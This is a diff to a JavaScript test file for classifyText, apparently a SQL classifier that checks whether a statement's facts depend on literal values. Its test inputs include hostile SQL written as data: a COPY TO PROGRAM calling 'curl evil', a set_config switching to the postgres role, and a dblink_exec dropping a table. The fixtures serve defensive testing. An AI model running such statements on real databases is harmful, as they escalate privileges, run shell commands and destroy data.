@@ -74,12 +74,24 @@ describe('classifyText', () => {
     'merge into t using s on 1 = 1 when matched then delete',
     'select * from t where id = 5 limit 10',
     "copy t to program 'curl evil'",
-    "select set_config('role', 'postgres', false)",
     'execute p(1)',
   ];
   for (const sql of valueFree) {
     it(`derives the facts of ${JSON.stringify(sql)} without reading a literal`, () => {
       assert.equal(classifyText(sql).readsLiterals, false);
+    });
+  }
+
+  // facts that hang on a string's value: the setting set_config changes, the SQL query_to_xml runs
+  const valueDependent = [
+    "select set_config('role', 'postgres', false)",
+    "select query_to_xml('select 1', true, false, '')",
+    "select * from dblink_exec('drop table t')",
+    "create function f() returns int language 'sql' as 'select 1'",
+  ];
+  for (const sql of valueDependent) {
+    it(`marks the facts of ${JSON.stringify(sql)} as reading a literal`, () => {
+      assert.equal(classifyText(sql).readsLiterals, true);
     });
   }
 });
